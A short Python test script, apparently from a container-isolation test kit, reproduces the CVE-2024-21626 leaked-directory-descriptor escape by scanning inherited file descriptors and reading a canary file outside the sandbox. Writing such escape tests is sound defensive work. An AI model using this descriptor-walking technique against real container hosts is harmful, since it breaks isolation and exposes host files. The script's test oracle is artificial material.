#!/usr/bin/python3
# Goal:    read an outside file through a directory fd leaked by the caller
# Models:  CVE-2024-21626
# Oracle:  token OUTSIDE
# Tier:    core
# Needs:   -
# Fixture: leak-dir
from ctk import *

t = ""
for fd in range(3, 64):
    try:
        if stat.S_ISDIR(os.fstat(fd).st_mode):
            t += os.read(os.open("canary.txt", os.O_RDONLY, dir_fd=fd), 200).decode()
    except OSError:
        pass
got(t, "leaked dir fd")
